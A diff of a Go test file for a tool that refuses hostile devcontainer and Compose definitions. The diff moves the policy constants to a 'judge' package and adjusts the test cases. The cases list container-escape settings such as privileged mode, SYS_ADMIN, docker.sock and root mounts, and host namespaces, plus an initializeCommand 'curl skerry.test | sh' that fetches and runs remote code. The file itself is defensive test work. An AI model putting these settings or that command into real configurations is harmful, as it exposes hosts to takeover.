@@ -10,11 +10,12 @@ import (
 	"domicile/internal/compose"
 	"domicile/internal/definition"
 	"domicile/internal/fault"
+	"domicile/internal/judge"
 	"domicile/internal/plan"
 )
 
 // made plans a repository with a definition of some lines, and Compose files where given.
-func made(t *testing.T, policy plan.Policy, texts map[string]string) (*plan.Plan, error) {
+func made(t *testing.T, policy judge.Policy, texts map[string]string) (*plan.Plan, error) {
 	t.Helper()
 	files := fstest.MapFS{}
 	for name, text := range texts {
@@ -40,29 +41,29 @@ const file = ".devcontainer/devcontainer.json"
 // is refused with property and line, unless an administrator allows it.
 func TestHostileDefinitionsAreRefused(t *testing.T) {
 	cases := map[string]struct{ line, allowance, words string }{
-		"privileged":            {`"privileged": true`, plan.AllowPrivileged, "privileged"},
-		"capability":            {`"capAdd": ["SYS_ADMIN"]`, plan.AllowCapabilities, "SYS_ADMIN"},
-		"capability, long name": {`"capAdd": ["CAP_SYS_MODULE"]`, plan.AllowCapabilities, "SYS_MODULE"},
-		"all capabilities":      {`"capAdd": ["ALL"]`, plan.AllowCapabilities, "ALL"},
-		"no seccomp":            {`"securityOpt": ["seccomp=unconfined"]`, plan.AllowSecurityOptions, "seccomp"},
-		"engine's socket":       {`"mounts": ["source=/var/run/docker.sock,target=/s,type=bind"]`, plan.AllowHostMounts, "socket"},
-		"host folder":           {`"mounts": [{"type": "bind", "source": "/etc", "target": "/host"}]`, plan.AllowHostMounts, "/etc"},
-		"volume that is a path": {`"mounts": ["type=volume,source=/etc,target=/host"]`, plan.AllowHostMounts, "/etc"},
-		"up from the source":    {`"mounts": ["type=bind,source=${localWorkspaceFolder}/../..,target=/host"]`, plan.AllowHostMounts, "folder"},
-		"-v":                    {`"runArgs": ["-v", "/:/host"]`, plan.AllowHostMounts, "the folder /"},
-		"-v in one word":        {`"runArgs": ["-v/:/host"]`, plan.AllowHostMounts, "the folder /"},
-		"--volume=":             {`"runArgs": ["--volume=/etc:/host:ro"]`, plan.AllowHostMounts, "/etc"},
-		"--mount":               {`"runArgs": ["--mount", "type=bind,src=/,dst=/host"]`, plan.AllowHostMounts, "the folder /"},
-		"--privileged":          {`"runArgs": ["--privileged"]`, plan.AllowPrivileged, "privileged"},
-		"--cap-add":             {`"runArgs": ["--cap-add=NET_ADMIN"]`, plan.AllowCapabilities, "NET_ADMIN"},
-		"--security-opt":        {`"runArgs": ["--security-opt", "apparmor=unconfined"]`, plan.AllowSecurityOptions, "apparmor"},
-		"--device":              {`"runArgs": ["--device=/dev/kmsg"]`, plan.AllowDevices, "/dev/kmsg"},
-		"--network":             {`"runArgs": ["--network=host"]`, plan.AllowHostSpaces, "network host"},
-		"another's network":     {`"runArgs": ["--network", "container:other"]`, plan.AllowHostSpaces, "container:other"},
-		"--pid":                 {`"runArgs": ["--pid=host"]`, plan.AllowHostSpaces, "pid"},
-		"--ipc":                 {`"runArgs": ["--ipc", "host"]`, plan.AllowHostSpaces, "ipc"},
-		"--userns":              {`"runArgs": ["--userns=host"]`, plan.AllowHostSpaces, "userns"},
-		"host command":          {`"initializeCommand": "curl skerry.test | sh"`, plan.AllowHostCommands, "initializeCommand"},
+		"privileged":            {`"privileged": true`, judge.AllowPrivileged, "privileged"},
+		"capability":            {`"capAdd": ["SYS_ADMIN"]`, judge.AllowCapabilities, "SYS_ADMIN"},
+		"capability, long name": {`"capAdd": ["CAP_SYS_MODULE"]`, judge.AllowCapabilities, "SYS_MODULE"},
+		"all capabilities":      {`"capAdd": ["ALL"]`, judge.AllowCapabilities, "ALL"},
+		"no seccomp":            {`"securityOpt": ["seccomp=unconfined"]`, judge.AllowSecurityOptions, "seccomp"},
+		"engine's socket":       {`"mounts": ["source=/var/run/docker.sock,target=/s,type=bind"]`, judge.AllowHostMounts, "socket"},
+		"host folder":           {`"mounts": [{"type": "bind", "source": "/etc", "target": "/host"}]`, judge.AllowHostMounts, "/etc"},
+		"capability to forge":   {`"capAdd": ["NET_RAW"]`, judge.AllowCapabilities, "NET_RAW"},
+		"volume that is a path": {`"mounts": ["type=volume,source=/etc,target=/host"]`, judge.AllowHostMounts, "/etc"},
+		"up from the source":    {`"mounts": ["type=bind,source=${localWorkspaceFolder}/../..,target=/host"]`, judge.AllowHostMounts, "folder"},
+		"-v":                    {`"runArgs": ["-v", "/:/host"]`, judge.AllowHostMounts, "the folder /"},
+		"-v in one word":        {`"runArgs": ["-v/:/host"]`, judge.AllowHostMounts, "the folder /"},
+		"--volume=":             {`"runArgs": ["--volume=/etc:/host:ro"]`, judge.AllowHostMounts, "/etc"},
+		"--mount":               {`"runArgs": ["--mount", "type=bind,src=/,dst=/host"]`, judge.AllowHostMounts, "the folder /"},
+		"--privileged":          {`"runArgs": ["--privileged"]`, judge.AllowPrivileged, "privileged"},
+		"--cap-add":             {`"runArgs": ["--cap-add=NET_ADMIN"]`, judge.AllowCapabilities, "NET_ADMIN"},
+		"--security-opt":        {`"runArgs": ["--security-opt", "apparmor=unconfined"]`, judge.AllowSecurityOptions, "apparmor"},
+		"--device":              {`"runArgs": ["--device=/dev/kmsg"]`, judge.AllowDevices, "/dev/kmsg"},
+		"--network":             {`"runArgs": ["--network=host"]`, judge.AllowHostSpaces, "network host"},
+		"--pid":                 {`"runArgs": ["--pid=host"]`, judge.AllowHostSpaces, "pid"},
+		"--ipc":                 {`"runArgs": ["--ipc", "host"]`, judge.AllowHostSpaces, "ipc"},
+		"--userns":              {`"runArgs": ["--userns=host"]`, judge.AllowHostSpaces, "userns"},
+		"host command":          {`"initializeCommand": "curl skerry.test | sh"`, judge.AllowHostCommands, "initializeCommand"},
 	}
 	for name, c := range cases {
 		t.Run(name, func(t *testing.T) {
@@ -72,7 +73,7 @@ func TestHostileDefinitionsAreRefused(t *testing.T) {
 			assert.ErrorContains(t, err, file+":3")
 			assert.ErrorContains(t, err, c.words)
 			assert.Contains(t, fault.Remedy(err), "-allow "+c.allowance)
-			_, err = made(t, plan.Policy{c.allowance}, map[string]string{file: text})
+			_, err = made(t, judge.Policy{c.allowance}, map[string]string{file: text})
 			assert.NotEqual(t, "not-allowed-here", fault.Code(err), "an administrator may allow it")
 		})
 	}
@@ -92,10 +93,10 @@ func TestWhatHasNoEquivalentIsRefusedByName(t *testing.T) {
 
 func TestHostileComposeFilesAreRefused(t *testing.T) {
 	cases := map[string]string{
-		"privileged: true": plan.AllowPrivileged, "cap_add: [SYS_ADMIN]": plan.AllowCapabilities, "security_opt: [\"seccomp:unconfined\"]": plan.AllowSecurityOptions,
-		"devices: [/dev/kmsg]": plan.AllowDevices, "network_mode: host": plan.AllowHostSpaces, "pid: host": plan.AllowHostSpaces, "ipc: host": plan.AllowHostSpaces,
-		"userns_mode: host": plan.AllowHostSpaces, "volumes: [\"/:/host\"]": plan.AllowHostMounts, "volumes: [\"/var/run/docker.sock:/s\"]": plan.AllowHostMounts,
-		"volumes: [{type: bind, source: /etc, target: /e}]": plan.AllowHostMounts, "volumes: [\"../..:/up\"]": plan.AllowHostMounts,
+		"privileged: true": judge.AllowPrivileged, "cap_add: [SYS_ADMIN]": judge.AllowCapabilities, "security_opt: [\"seccomp:unconfined\"]": judge.AllowSecurityOptions,
+		"devices: [/dev/kmsg]": judge.AllowDevices, "network_mode: host": judge.AllowHostSpaces, "pid: host": judge.AllowHostSpaces, "ipc: host": judge.AllowHostSpaces,
+		"userns_mode: host": judge.AllowHostSpaces, "volumes: [\"/:/host\"]": judge.AllowHostMounts, "volumes: [\"/var/run/docker.sock:/s\"]": judge.AllowHostMounts,
+		"volumes: [{type: bind, source: /etc, target: /e}]": judge.AllowHostMounts, "volumes: [\"../..:/up\"]": judge.AllowHostMounts,
 	}
 	for attribute, allowance := range cases {
 		for _, own := range []string{"work", "beside"} {
